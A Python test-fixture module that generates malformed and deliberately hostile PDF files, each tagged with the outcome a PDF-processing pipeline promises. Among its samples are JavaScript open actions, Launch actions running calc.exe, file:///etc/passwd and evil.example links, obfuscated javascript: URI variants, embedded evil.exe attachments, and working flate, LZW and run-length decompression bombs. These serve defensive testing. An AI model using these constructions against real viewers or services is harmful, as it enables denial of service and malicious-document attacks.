"""Every kind of bad PDF that we know how to make, with what is promised of it.

A promise is "bound" (without a word), "repaired" (bound, with a warning), or the reason of a
refusal; several where it depends on what the libraries manage to save.
"""

from __future__ import annotations

import base64
import re
import zlib
from functools import partial
from io import BytesIO
from typing import TYPE_CHECKING

import pikepdf
from PIL import Image

from tests.pdf.samples import Chapter, Raw, link, page_object

if TYPE_CHECKING:
    from collections.abc import Callable

Kind = tuple["Callable[[], bytes]", tuple[str, ...]]
KINDS: dict[str, Kind] = {}


def kind(*promise: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Enter a kind into the table under its function's name."""

    def enter(make: Callable[[], bytes]) -> Callable[[], bytes]:
        KINDS[make.__name__.replace("_", "-")] = (make, promise)
        return make

    return enter


def plain() -> bytes:
    return Chapter().data()


def saved(change: Callable[[pikepdf.Pdf], None] | None = None, **options: object) -> bytes:
    """The plain chapter, changed and saved by qpdf."""
    with pikepdf.open(BytesIO(plain())) as pdf:
        if change is not None:
            change(pdf)
        out = BytesIO()
        pdf.save(out, **options)
        return out.getvalue()


def with_content(data: bytes, extra: str, length: int | None = None) -> bytes:
    """A chapter whose first page has this content stream as its bytes."""
    file = Chapter().raw()
    number = file.stream(data, extra, length)
    body = file.bodies[page_object(0) - 1]
    file.set(page_object(0), re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % number, body))
    return file.data()


def with_image(data: bytes, extra: str, side: int = 16) -> bytes:
    """A chapter with an image on its first page."""
    file = Chapter().raw()
    image = file.stream(data, f"/Type/XObject/Subtype/Image/Width {side}/Height {side}{extra}")
    paint = file.stream(b"q 100 0 0 100 60 100 cm /Im Do Q", "")
    body = file.bodies[page_object(0) - 1]
    body = re.sub(rb"/Contents (\d+ 0 R)", rb"/Contents[\1 %d 0 R]" % paint, body)
    body = body.replace(b"/Resources<<", b"/Resources<</XObject<</Im %d 0 R>>" % image)
    file.set(page_object(0), body)
    return file.data()


def lzw(data: bytes, early: int = 1) -> bytes:
    """LZW without compression: a code for each byte, of as many bits as are due at its place.

    With `early` 0 a code becomes longer one place later than usual (/EarlyChange).
    """
    bits, width = "", 9
    for n, byte in enumerate(data):
        if n % 1000 == 0:
            bits += format(256, f"0{width}b")
        width = (257 + n % 1000 + early).bit_length() if n % 1000 else 9
        bits += format(byte, f"0{width}b")
    bits += format(257, f"0{(258 + (len(data) - 1) % 1000 + early).bit_length()}b")
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def longest_lzw(tables: int) -> bytes:
    """The longest strings that LZW can say, 7.4 MB of zeros in 5 kB for each table."""
    bits = ""
    for _ in range(tables):
        bits += format(0, "09b")
        # Every code is the one that is being made.
        bits += "".join(format(code, f"0{(code + 1).bit_length()}b") for code in range(258, 4094))
        bits += format(256, "012b")
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big")


def a85(data: bytes) -> bytes:
    return base64.a85encode(data) + b"~>"


def run_length(data: bytes) -> bytes:
    pieces = (data[n : n + 128] for n in range(0, len(data), 128))
    return b"".join(bytes((len(piece) - 1,)) + piece for piece in pieces) + b"\x80"


CONTENT = Chapter().content(0)
PIXELS = bytes(range(256))

# Streams of every making

kind("bound")(plain)


@kind("bound")
def stream_lzw() -> bytes:
    return with_content(lzw(CONTENT), "/Filter/LZWDecode")


@kind("bound")
def stream_ascii85() -> bytes:
    return with_content(a85(CONTENT), "/Filter[/ASCII85Decode]")


@kind("bound")
def stream_asciihex() -> bytes:
    return with_content(CONTENT.hex().encode() + b">", "/Filter/ASCIIHexDecode")


@kind("bound")
def stream_run_length() -> bytes:
    return with_content(run_length(CONTENT), "/Filter/RunLengthDecode")


@kind("bound")
def stream_unfiltered() -> bytes:
    return with_content(CONTENT, "")


@kind("bound")
def stream_chain() -> bytes:
    return with_content(a85(lzw(CONTENT)), "/Filter[/ASCII85Decode/LZWDecode]")


@kind("bound")
def stream_chain_of_three() -> bytes:
    data = (a85(zlib.compress(CONTENT))).hex().encode() + b">"
    return with_content(data, "/Filter[/ASCIIHexDecode/ASCII85Decode/FlateDecode]")


@kind("bound")
def stream_flate_in_an_array() -> bytes:
    extra = "/Filter[/FlateDecode]/DecodeParms[null]"
    return with_content(zlib.compress(CONTENT), extra)


@kind("bound")
def stream_flate_by_its_short_name() -> bytes:
    return with_content(zlib.compress(CONTENT), "/Filter/Fl")


@kind("bound")
def stream_with_an_empty_array_of_filters() -> bytes:
    return with_content(b"q Q", "/Filter[]")


@kind("bound")
def stream_with_keys_of_inline_images() -> bytes:
    extra = "/Filter/LZWDecode/DP<</Predictor 12/Columns 4>>"
    return with_content(lzw(CONTENT), extra)


@kind("bound")
def stream_lzw_late_change() -> bytes:
    extra = "/Filter/LZWDecode/DecodeParms<</EarlyChange 0>>"
    return with_content(lzw(CONTENT, early=0), extra)


@kind("bound")
def image_unfiltered() -> bytes:
    return with_image(PIXELS, "/BitsPerComponent 8/ColorSpace/DeviceGray")


@kind("bound")
def image_flate_predictor() -> bytes:
    rows = b"".join(b"\0" + PIXELS[n : n + 16] for n in range(0, 256, 16))
    extra = "/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode"
    return with_image(zlib.compress(rows), extra + "/DecodeParms<</Predictor 15/Columns 16>>")


@kind("bound")
def image_flate_predictor_in_an_array() -> bytes:
    rows = b"".join(b"\0" + PIXELS[n : n + 16] for n in range(0, 256, 16))
    extra = "/BitsPerComponent 8/ColorSpace/DeviceGray/Filter[/FlateDecode]"
    return with_image(zlib.compress(rows), extra + "/DecodeParms[<</Predictor 15/Columns 16>>]")


@kind("bound")
def image_flate_predictor_before_crypt() -> bytes:
    rows = b"".join(b"\0" + PIXELS[n : n + 16] for n in range(0, 256, 16))
    extra = "/BitsPerComponent 8/ColorSpace/DeviceGray/Filter[/FlateDecode/Crypt]"
    parameters = "/DecodeParms[<</Predictor 15/Columns 16>> null]"
    return with_image(zlib.compress(rows), extra + parameters)


@kind("bound")
def image_jpeg_in_flate_with_predictor() -> bytes:
    out = BytesIO()
    Image.frombytes("L", (16, 16), PIXELS).save(out, "JPEG")
    data = out.getvalue()
    rows = b"".join(b"\0" + data[n : n + 16].ljust(16, b"\0") for n in range(0, len(data), 16))
    extra = "/BitsPerComponent 8/ColorSpace/DeviceGray/Filter[/FlateDecode/DCTDecode]"
    parameters = "/DecodeParms[<</Predictor 15/Columns 16>> null]"
    return with_image(zlib.compress(rows), extra + parameters)


@kind("bound")
def image_lzw_tiff_predictor() -> bytes:
    rows = bytearray(PIXELS)
    for n in range(255, -1, -1):
        if n % 16:
            rows[n] = (rows[n] - rows[n - 1]) % 256
    extra = "/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/LZWDecode"
    return with_image(lzw(bytes(rows)), extra + "/DecodeParms<</Predictor 2/Columns 16>>")


@kind("bound")
def image_jpeg_in_ascii85() -> bytes:
    out = BytesIO()
    Image.frombytes("L", (16, 16), PIXELS).save(out, "JPEG")
    extra = "/BitsPerComponent 8/ColorSpace/DeviceGray/Filter[/ASCII85Decode/DCTDecode]"
    return with_image(a85(out.getvalue()), extra)


# Files of every structure


@kind("bound")
def object_streams() -> bytes:
    return saved(object_stream_mode=pikepdf.ObjectStreamMode.generate)


@kind("bound")
def linearized() -> bytes:
    return saved(linearize=True)


@kind("bound")
def several_ends() -> bytes:
    data = plain()
    start = data.rindex(b"startxref")
    old = int(data[start:].split()[1])
    more = b"trailer\n<</Size 12/Root 9 0 R/Prev %d>>\n" % old
    root = re.search(rb"/Root (\d+) 0 R", data)
    assert root is not None
    more = more.replace(b"9 0 R", root.group(1) + b" 0 R")
    at = len(data)
    return data + b"xref\n0 1\n0000000000 65535 f \n" + more + b"startxref\n%d\n%%%%EOF\n" % at


@kind("bound")
def encrypted_rc4() -> bytes:
    return saved(encryption=pikepdf.Encryption(owner="x", user="", R=3, aes=False, metadata=False))


@kind("bound")
def encrypted_rc4_40() -> bytes:
    return saved(encryption=pikepdf.Encryption(owner="x", user="", R=2, aes=False, metadata=False))


@kind("bound")
def encrypted_aes_128() -> bytes:
    return saved(encryption=pikepdf.Encryption(owner="x", user="", R=4))


@kind("bound")
def encrypted_aes() -> bytes:
    return saved(encryption=pikepdf.Encryption(owner="x", user="", R=6))


@kind("bound")
def encrypted_linearized_object_streams() -> bytes:
    modes = {"object_stream_mode": pikepdf.ObjectStreamMode.generate, "linearize": True}
    return saved(encryption=pikepdf.Encryption(owner="x", user="", R=6), **modes)


@kind("bound", "repaired")
def junk_before() -> bytes:
    return b"HTTP leftovers\r\n\r\n" + plain()


@kind("bound")
def junk_after() -> bytes:
    return plain() + b"<!-- served in 0.01 s -->\n" * 20


@kind("bound")
def inherited_attributes() -> bytes:
    file = Chapter().raw()
    for index in range(3):
        body = file.bodies[page_object(index) - 1]
        file.set(page_object(index), body.replace(b"/MediaBox[0 0 522 702]", b""))
    tree = file.bodies[2]
    file.set(3, tree[:-2] + b"/MediaBox[0 0 522 702]/Rotate 90>>")
    return file.data()


@kind("bound")
def nested_page_tree() -> bytes:
    file = Chapter().raw()
    above = file.add("<</Type/Pages/Count 3/Kids[3 0 R]>>")
    file.set(3, file.bodies[2][:-2] + b"/Parent %d 0 R>>" % above)
    root = file.bodies[file.root - 1]
    file.set(file.root, root.replace(b"/Pages 3 0 R", b"/Pages %d 0 R" % above))
    return file.data()


@kind("bound")
def origin_elsewhere() -> bytes:
    return plain().replace(b"[0 0 522 702]", b"[9 9 509 709]")


@kind("bound")
def crop_box() -> bytes:
    return Chapter(page_extra="/CropBox[50 100 470 600]").data()


@kind("bound")
def page_box_upside_down() -> bytes:
    return plain().replace(b"[0 0 522 702]", b"[522 702 0 0]")


@kind("repaired")
def page_boxes_of_nonsense() -> bytes:
    return plain().replace(b"[0 0 522 702]", b"[(a) /b 52 1]")


@kind("repaired")
def page_boxes_lost() -> bytes:
    return plain().replace(b"/MediaBox", b"/MediaXox")


@kind("bound", "too-big")  # PDFium takes a bit for each point of width and height
def page_box_huge() -> bytes:
    def change(pdf: pikepdf.Pdf) -> None:
        pdf.pages[0].MediaBox = pikepdf.Array([0, 0, 2_000_000_000, 2_000_000_000])
        pdf.pages[1].UserUnit = 10_000

    return saved(change)


_LONG = "9" * 400 + ".0"

for _name, _box in {
    "empty": "[]",
    "of-words": "[0 0 (a) /b]",
    "too-short": "[0 0 500]",
    "endless": f"[0 0 400 {_LONG}]",
}.items():
    KINDS[f"crop-box-{_name}"] = (Chapter(page_extra=f"/CropBox{_box}").data, ("bound",))


@kind("bound")
def destination_out_of_reach() -> bytes:
    far = (_LONG, "9" * 40 + ".0", "-3000000000")
    return Chapter(annotations={0: "".join(link(f"/Dest[4 0 R/XYZ 0 {y} 0]") for y in far)}).data()


@kind("bound")
def rotate_of_nonsense() -> bytes:
    return Chapter(page_extra="/Rotate/Ninety").data()


@kind("bound")
def rotate_by_45() -> bytes:
    return Chapter(page_extra="/Rotate 45").data()


@kind("bound")
def rotate_backwards() -> bytes:
    return Chapter(page_extra="/Rotate -90").data()


@kind("bound")
def page_twice_in_the_tree() -> bytes:
    file = Chapter().raw()
    file.set(3, "<</Type/Pages/Count 3/Kids[4 0 R 4 0 R 6 0 R]>>")
    return file.data()


@kind("bound")
def scanned() -> bytes:
    """No text at all, only pictures."""
    content = b"q 522 0 0 702 0 0 cm /Im Do Q"
    data = with_image(PIXELS, "/BitsPerComponent 8/ColorSpace/DeviceGray")
    with pikepdf.open(BytesIO(data)) as pdf:
        for page in pdf.pages:
            page.Contents = pdf.make_stream(content)
            page.Resources = pdf.pages[0].Resources
        out = BytesIO()
        pdf.save(out)
        return out.getvalue()


@kind("bound")
def names_that_are_no_utf_8() -> bytes:
    """As programs write them that were made for another alphabet."""
    odd = "/\xe9t\xe9"
    annotation = f"<</Type/Annot/Subtype{odd}/Rect[9 9 99 99]{odd}{odd}>>"
    links = link(f"/A<</S{odd}>>") + link("/A<</S/GoToR/F<EFBBBFFF>>>") + annotation
    catalog = f"/Outlines<</First<</Title<EFBBBFFF>/Dest[4 0 R{odd}]>>>>"
    return Chapter(page_extra=f"/Group<</S{odd}>>", annotations={0: links}, catalog=catalog).data()


@kind("bound")
def references_to_nothing() -> bytes:
    """As programs leave them behind that took something out."""
    keys = "/AA 999 0 R/Metadata null"
    annotation = link(f"/A<</S/URI/URI(http://x.org/)>>/Popup 999 0 R{keys}")
    file = Chapter(page_extra=keys, annotations={0: annotation}, catalog=keys).raw()
    contents = file.stream(CONTENT, f"/F 999 0 R/FFilter null{keys}")
    body = file.bodies[page_object(0) - 1]
    file.set(page_object(0), re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % contents, body))
    return file.data()


@kind("bound")
def page_that_differs_from_its_node() -> bytes:
    """What a page says of itself goes before what it would inherit."""
    file = Chapter(page_extra="/Rotate 0/CropBox[50 50 500 650]").raw()
    tree = file.bodies[2]
    file.set(3, tree[:-2] + b"/Rotate 90/CropBox[0 0 99 99]/MediaBox[0 0 99 99]/Resources<<>>>>")
    return file.data()


@kind("bound")
def page_without_contents() -> bytes:
    file = Chapter().raw()
    body = file.bodies[page_object(2) - 1]
    file.set(page_object(2), re.sub(rb"/Contents \d+ 0 R", b"", body))
    return file.data()


@kind("bound")
def page_of_no_bytes() -> bytes:
    return with_content(b"", "/Filter/FlateDecode")


@kind("bound")
def page_with_contents_that_are_not_there() -> bytes:
    file = Chapter().raw()
    body = file.bodies[page_object(0) - 1]
    contents = rb"/Contents[null \1 999 0 R]"
    file.set(page_object(0), re.sub(rb"/Contents (\d+ 0 R)", contents, body))
    return file.data()


@kind("bound")
def shared_contents() -> bytes:
    file = Chapter().raw()
    body = file.bodies[page_object(2) - 1]
    file.set(page_object(2), re.sub(rb"/Contents \d+ 0 R", b"/Contents[5 0 R 7 0 R]", body))
    return file.data()


@kind("bound")
def resources_named_like_actions() -> bytes:
    file = Chapter().raw()
    fonts = file.add("<</AA 1 0 R/JS 2 0 R/T 1 0 R/B 2 0 R>>")
    for index in range(3):
        body = file.bodies[page_object(index) - 1]
        body = body.replace(b"<</T 1 0 R/B 2 0 R>>", b" %d 0 R" % fonts)
        file.set(page_object(index), body)
    for index in range(3):
        content = Chapter().content(index).replace(b"/T 10.6", b"/AA 10.6")
        file.set(
            page_object(index) + 1,
            b"<</Length %d>>\nstream\n%b\nendstream" % (len(content), content),
        )
    return file.data()


@kind("bound")
def own_outline_dead() -> bytes:
    items = (
        "/Outlines<</First<</Title(Table of Contents)/A<</S/GoToR/F(TOC.PDF)/D[0/Fit]>>"
        "/Next<</Title(Gone)/Dest[999 0 R/Fit]>>>>>>"
    )
    return Chapter(catalog=items).data()


@kind("bound")
def layers() -> bytes:
    file = Chapter(catalog="/OCProperties 99 0 R").raw()
    group = file.add("<</Type/OCG/Name(Notes)>>")
    hidden = file.stream(b"/OC /Secret BDC 60 60 200 200 re f EMC")
    properties = file.add(f"<</OCGs[{group} 0 R]/D<</OFF[{group} 0 R]>>>>")
    file.set(file.root, file.bodies[file.root - 1].replace(b"99 0 R", b"%d 0 R" % properties))
    body = file.bodies[page_object(0) - 1]
    body = re.sub(rb"/Contents (\d+ 0 R)", rb"/Contents[\1 %d 0 R]" % hidden, body)
    body = body.replace(b"/Resources<<", b"/Resources<</Properties<</Secret %d 0 R>>" % group)
    file.set(page_object(0), body)
    return file.data()


@kind("bound")
def layers_of_one_name() -> bytes:
    """Two that say the same, one of which is off."""
    return with_layers(off=1)


def with_layers(off: int, number: int = 1, *, off_by_default: bool = False) -> bytes:
    file = Chapter(number, f"Title {number}", first=3 * number - 2).raw()
    groups = [file.add("<</Type/OCG/Name(Notes)>>") for _ in range(2)]
    squares = b"/OC /A BDC 60 60 50 50 re f EMC /OC /B BDC 260 60 50 50 re f EMC"
    painted = file.stream(squares)
    listed = "{} 0 R {} 0 R".format(*groups)
    state = f"/OFF[{groups[off]} 0 R]"
    if off_by_default:
        state = f"/BaseState/OFF/ON[{groups[1 - off]} 0 R]"
    properties = f"/OCProperties<</OCGs[{listed}]/D<<{state}>>>>"
    file.set(file.root, file.bodies[file.root - 1][:-2] + properties.encode() + b">>")
    body = file.bodies[page_object(0) - 1]
    body = re.sub(rb"/Contents (\d+ 0 R)", rb"/Contents[\1 %d 0 R]" % painted, body)
    names = "/Resources<</Properties<</A {} 0 R/B {} 0 R>>".format(*groups)
    file.set(page_object(0), body.replace(b"/Resources<<", names.encode()))
    return file.data()


# Files with something to hide; test_nasty looks at what becomes of it

_SCRIPT = "<</S/JavaScript/JS(app.alert\\(1\\))>>"

ACTIVE = {
    "script-on-open": Chapter(catalog=f"/OpenAction{_SCRIPT}"),
    "script-in-names": Chapter(catalog=f"/Names<</JavaScript<</Names[(a){_SCRIPT}]>>>>"),
    "script-on-page": Chapter(page_extra=f"/AA<</O{_SCRIPT}>>"),
    "page-that-turns-itself": Chapter(page_extra="/Dur 1/Trans<</S/Dissolve>>/PZ 2"),
    "script-on-close": Chapter(catalog=f"/AA<</WC{_SCRIPT}>>"),
    "link-script": Chapter(annotations={0: link(f"/A{_SCRIPT}")}),
    "link-chain": Chapter(annotations={0: link(f"/Dest[4 0 R/Fit]/AA<</E{_SCRIPT}>>/PA{_SCRIPT}")}),
    "link-javascript-uri": Chapter(
        annotations={0: link("/A<</S/URI/URI(javascript:alert\\(1\\))>>")}
    ),
    "link-file-uri": Chapter(annotations={0: link("/A<</S/URI/URI(file:///etc/passwd)>>")}),
    "link-launch": Chapter(annotations={0: link("/A<</S/Launch/F(calc.exe)>>")}),
    "link-launch-windows": Chapter(annotations={0: link("/A<</S/Launch/Win<</F(calc.exe)>>>>")}),
    "link-other-file": Chapter(annotations={0: link("/A<</S/GoToR/F(OTHER.PDF)/D[0/Fit]>>")}),
    "link-embedded": Chapter(annotations={0: link("/A<</S/GoToE/T<</R/C/N(x)>>/D[0/Fit]>>")}),
    "link-import-data": Chapter(annotations={0: link("/A<</S/ImportData/F(x.fdf)>>")}),
    "link-rendition": Chapter(annotations={0: link("/A<</S/Rendition/JS(x)/OP 0>>")}),
    "form-submit": Chapter(
        annotations={
            0: "<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[9 9 99 99]"
            "/A<</S/SubmitForm/F(http://evil.example/)>>>>"
        },
        catalog=f"/AcroForm<</Fields[]/CO[]/XFA(x)/DR<<>>/AA<</K{_SCRIPT}>>>>",
    ),
    "attachment-in-names": Chapter(
        catalog="/Names<</EmbeddedFiles<</Names[(a)<</Type/Filespec/F(evil.exe)>>]>>>>"
    ),
    "attachment-on-page": Chapter(
        annotations={
            0: "<</Type/Annot/Subtype/FileAttachment/Rect[9 9 99 99]"
            "/FS<</Type/Filespec/F(evil.exe)>>>>"
        }
    ),
    "attachment-of-page": Chapter(page_extra="/AF[<</Type/Filespec/F(evil.exe)>>]"),
    "movie": Chapter(
        annotations={0: "<</Type/Annot/Subtype/Movie/Rect[9 9 99 99]/Movie<</F(x.avi)>>>>"}
    ),
    "rich-media": Chapter(
        annotations={0: "<</Type/Annot/Subtype/RichMedia/Rect[9 9 99 99]/RichMediaContent<<>>>>"}
    ),
}

#: As they are written in a PDF string.
ODD_ADDRESSES = [
    " javascript:x", "JaVaScRiPt:x", "java\\nscript:x", "java\\tscript:x", "\\001javascript:x",
    "\\376\\377\\000j\\000a\\000v\\000a\\000s\\000c\\000r\\000i\\000p\\000t\\000:\\000x",
    "http:javascript:x", "data:text/html,x", "vbscript:x", "FILE:/x", "file:///etc/passwd",
    "\\\\\\\\evil\\\\x", "//evil.example/x", "smb://evil/x", "jar:http://evil!/x",
    "ms-word:ofe|u|x", "view-source:x", "search-ms:query=x",
]  # fmt: skip
for _number, _address in enumerate(ODD_ADDRESSES):
    ACTIVE[f"link-address-{_number}"] = Chapter(
        annotations={0: link(f"/A<</S/URI/URI({_address})>>")}
    )


def with_object(body: str, use: str, stream: bytes | None = None) -> bytes:
    """A chapter with one object more, whose number goes into ``use`` among the page's keys."""
    file = Chapter().raw()
    number = file.add(f"<<{body}>>") if stream is None else file.stream(stream, body)
    page = file.bodies[page_object(0) - 1]
    page = page.replace(b"/Resources<<", f"/Resources<<{use.format(number)}".encode())
    file.set(page_object(0), page)
    return file.data()


_FORM = "/Type/XObject/Subtype/Form/BBox[0 0 9 9]"
_IMAGE = "/Type/XObject/Subtype/Image/Width 16/Height 16/BitsPerComponent 8/ColorSpace/DeviceGray"
_STAMP = "<</Type/Annot/Subtype/Stamp/Rect[9 9 99 99]/AP<</N {} 0 R/JS(x)>>/BS<</S/S/JS(x)>>"
_AS_PICTURE = "/XObject<</X {} 0 R>>"
_ACTIVE_FILES = {
    "dead-link-with-a-picture": (
        _FORM,
        f">>/Annots[<</Subtype/Link/Rect[9 9 99 99]/A{_SCRIPT}/AP<</N {{}} 0 R>>>>]/Spare<<",
        b"1 0 0 rg 0 0 9 9 re f",
    ),
    "form-from-a-file": (f"{_FORM}/Ref<</F(evil.pdf)/Page 0>>", _AS_PICTURE, b"0 0 9 9 re f"),
    "image-from-a-host": (f"{_IMAGE}/F<</FS/URL/F(http://evil/)>>", _AS_PICTURE, b""),
    "image-with-a-file": (f"{_IMAGE}/AF[<</Type/Filespec/F(evil)>>]", _AS_PICTURE, PIXELS),
    "program-for-printers": ("/Type/XObject/Subtype/PS", _AS_PICTURE, b"(evil) run"),
    "form-for-printers": (f"{_FORM}/Subtype2/PS/PS(evil)", _AS_PICTURE, b"(evil) run"),
    "script-deep-in-a-form": (
        f"{_FORM}/Resources<</Properties<</M[<</P{_SCRIPT}>>]>>/JS(evil)>>",
        _AS_PICTURE,
        b"0 0 9 9 re f",
    ),
    "script-among-resources": ("/S/JavaScript/JS(evil)", "/Properties<</M {} 0 R>>", None),
    "attachment-among-resources": (
        "/Type/Filespec/F(evil)/EF<</F 1 0 R>>",
        "/Properties<</M {} 0 R>>",
        None,
    ),
    "appearance": (
        f"{_FORM}/Resources<</Properties<</M{_SCRIPT}>>>>",
        f">>/Annots[{_STAMP}/A{_SCRIPT}>>]/Spare<<",
        b"0 0 9 9 re f",
    ),
    "three-d": (
        "/Type/3D/Subtype/U3D",
        ">>/Annots[<</Type/Annot/Subtype/3D/Rect[9 9 99 99]/3DD {} 0 R/AP<<>>>>]/Spare<<",
        b"evil",
    ),
}
ACTIVE_FILES = {name: chapter.data for name, chapter in ACTIVE.items()} | {
    name: partial(with_object, *parts) for name, parts in _ACTIVE_FILES.items()
}
for _name, _make in ACTIVE_FILES.items():
    KINDS[f"active-{_name}"] = (_make, ("bound",))

# Files that are broken


@kind("repaired")
def lost_startxref() -> bytes:
    data = plain()
    return data[: data.rindex(b"startxref")]


@kind("repaired")
def wrong_startxref() -> bytes:
    return re.sub(rb"startxref\n\d+", b"startxref\n7", plain())


@kind("repaired")
def shifted_xref() -> bytes:
    return plain().replace(b"%PDF-1.4\n", b"%PDF-1.4\n% a line too many\n")


@kind("repaired")
def lost_xref_and_trailer() -> bytes:
    data = plain()
    return data[: data.rindex(b"xref\n0 ")] + b"%%EOF\n"


@kind("repaired")
def length_too_short() -> bytes:
    return with_content(zlib.compress(CONTENT), "/Filter/FlateDecode", length=20)


@kind("repaired")
def length_of_two_gigabytes() -> bytes:
    return with_content(zlib.compress(CONTENT), "/Filter/FlateDecode", length=2_000_000_000)


@kind("repaired")
def length_negative() -> bytes:
    return with_content(CONTENT, "", length=-5)


@kind("repaired")
def lost_endobj() -> bytes:
    data = plain()
    return data.replace(b"\nendobj\n", b"\n", 3).replace(b"startxref", b"startxref\n9 %")


@kind("empty")
def empty() -> bytes:
    return b""


@kind("not-pdf")
def html_page() -> bytes:
    return b"<!DOCTYPE html><html><body>Service temporarily unavailable</body></html>"


@kind("not-pdf")
def zeroes() -> bytes:
    return bytes(40_000)


@kind("damaged")
def only_a_header() -> bytes:
    return b"%PDF-1.4\n%%EOF\n"


@kind("password")
def password() -> bytes:
    return saved(encryption=pikepdf.Encryption(owner="x", user="secret", R=6))


@kind("no-pages")
def no_pages() -> bytes:
    file = Raw()
    tree = file.add("<</Type/Pages/Count 0/Kids[]>>")
    file.root = file.add(f"<</Type/Catalog/Pages {tree} 0 R>>")
    return file.data()


@kind("no-pages", "damaged")
def no_page_tree() -> bytes:
    file = Raw()
    file.root = file.add("<</Type/Catalog>>")
    return file.data()


@kind("cycle")
def page_tree_in_a_circle() -> bytes:
    file = Chapter().raw()
    file.set(3, "<</Type/Pages/Count 3/Kids[4 0 R 3 0 R 6 0 R]>>")
    return file.data()


@kind("cycle")
def page_tree_in_a_wide_circle() -> bytes:
    file = Chapter().raw()
    node = file.add("<</Type/Pages/Count 3/Kids[6 0 R 3 0 R]>>")
    file.set(3, f"<</Type/Pages/Count 3/Kids[4 0 R {node} 0 R]>>")
    return file.data()


@kind("cycle", "damaged")
def page_tree_5000_deep() -> bytes:
    file = Chapter().raw()
    first = len(file.bodies) + 1
    for n in range(5000):
        file.add(f"<</Type/Pages/Count 3/Kids[{first + n + 1} 0 R]>>")
    file.add(file.bodies[2])
    root = file.bodies[file.root - 1]
    file.set(file.root, root.replace(b"/Pages 3 0 R", b"/Pages %d 0 R" % first))
    return file.data()


@kind("damaged")
def page_lost_in_repair() -> bytes:
    data = plain().replace(b"\n%d 0 obj" % page_object(1), b"\n%d 0 obx" % page_object(1))
    return data.replace(b"startxref", b"startxxxx")


@kind("damaged")
def flipped_bits_in_content() -> bytes:
    data = bytearray(zlib.compress(CONTENT))
    data[len(data) // 2] ^= 0xFF
    return with_content(bytes(data), "/Filter/FlateDecode")


@kind("damaged")
def content_cut_short() -> bytes:
    return with_content(zlib.compress(CONTENT)[:-40], "/Filter/FlateDecode")


@kind("damaged")
def content_in_bad_ascii85() -> bytes:
    return with_content(b"\x80\x81 no ascii85 at all ~~~ \xff", "/Filter/ASCII85Decode")


@kind("damaged")
def content_of_unknown_filter() -> bytes:
    return with_content(CONTENT, "/Filter/SecretDecode")


@kind("damaged")
def content_lost_with_the_table() -> bytes:
    """A page is blank since the file broke: what it refers to is not there any more."""
    file = Chapter().raw()
    body = file.bodies[page_object(1) - 1]
    file.set(page_object(1), re.sub(rb"/Contents \d+ 0 R", b"/Contents 999 0 R", body))
    return file.data().replace(b"startxref", b"startxxxx")


@kind("bound")
def content_missing() -> bytes:
    file = Chapter().raw()
    body = file.bodies[page_object(1) - 1]
    file.set(page_object(1), re.sub(rb"/Contents \d+ 0 R", b"/Contents 999 0 R", body))
    return file.data()


@kind("damaged", "no-pages", "repaired")
def cut_in_the_middle() -> bytes:
    data = plain()
    return data[: len(data) // 2]


@kind("other-chapter")
def another_chapter() -> bytes:
    return Chapter(number=7, title="Convolution of Trains").data()


@kind("other-chapter")
def another_chapter_with_this_title_in_its_own() -> bytes:
    return Chapter(number=7, title="What Beginnings Do").data()


@kind("damaged", "repaired")
def length_that_is_its_own() -> bytes:
    file = Chapter().raw()
    number = file.add(f"<</Length {len(file.bodies) + 1} 0 R>>\nstream\nabc\nendstream")
    body = file.bodies[page_object(0) - 1]
    file.set(page_object(0), re.sub(rb"/Contents \d+ 0 R", b"/Contents %d 0 R" % number, body))
    return file.data()


@kind("repaired")
def xref_that_leads_to_itself() -> bytes:
    data = plain()
    start = int(data[data.rindex(b"startxref") :].split()[1])
    return data.replace(b"trailer\n<<", b"trailer\n<</Prev %d" % start)


@kind("bound", "repaired")
def parent_that_is_its_own() -> bytes:
    file = Chapter().raw()
    file.set(3, file.bodies[2][:-2] + b"/Parent 3 0 R>>")
    for index in range(3):
        body = file.bodies[page_object(index) - 1]
        file.set(page_object(index), body.replace(b"/MediaBox[0 0 522 702]", b""))
    return file.data()


# Bombs


def flate_bomb() -> bytes:
    """400 MB of spaces in 400 KB: one block, which refers to nothing before it, 400 times."""
    packer = zlib.compressobj(9)
    block = b" " * 1_000_000
    head = packer.flush(zlib.Z_FULL_FLUSH)
    packed = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    check = 1
    for _ in range(400):
        check = zlib.adler32(block, check)
    last = zlib.compress(b"")[2:-4]
    return head + packed * 400 + last + check.to_bytes(4, "big")


@kind("too-big")
def flate_bomb_in_content() -> bytes:
    return with_content(flate_bomb(), "/Filter/FlateDecode")


@kind("too-big", "damaged")
def flate_bomb_in_ascii85() -> bytes:
    return with_content(a85(flate_bomb()), "/Filter[/ASCII85Decode/FlateDecode]")


@kind("too-big", "damaged")
def run_length_bomb() -> bytes:
    return with_content(b"\x81 " * 3_000_000 + b"\x80", "/Filter/RunLengthDecode")


@kind("too-big", "crashed", "damaged")
def lzw_bomb() -> bytes:
    return with_content(longest_lzw(150), "/Filter/LZWDecode")


@kind("too-big", "too-slow")
def million_objects() -> bytes:
    file = Chapter().raw()
    file.bodies += [b"null"] * 1_000_000
    return file.data()


@kind("bound", "repaired")
def array_of_200000() -> bytes:
    return Chapter(catalog="/Pad[" + "0 " * 200_000 + "]").data()


@kind("bound", "repaired", "damaged")
def brackets_100000_deep() -> bytes:
    return Chapter(catalog="/Pad" + "[" * 100_000 + "]" * 100_000).data()


@kind("bound", "damaged", "too-big")
def forms_1000_deep() -> bytes:
    file = Chapter().raw()
    first = len(file.bodies) + 1
    for n in range(1000):
        resources = f"/Resources<</XObject<</X {first + n + 1} 0 R>>>>"
        file.stream(b"/X Do", f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]{resources}")
    file.stream(b"0 0 9 9 re f", "/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    body = file.bodies[page_object(0) - 1]
    body = body.replace(b"/Resources<<", b"/Resources<</XObject<</X %d 0 R>>" % first)
    file.set(page_object(0), body)
    return file.data()


def with_chain(count: int, entry: str, last: str, use: str) -> bytes:
    """A chapter with a chain of objects, each with the next one's number; ``use`` is in its root.

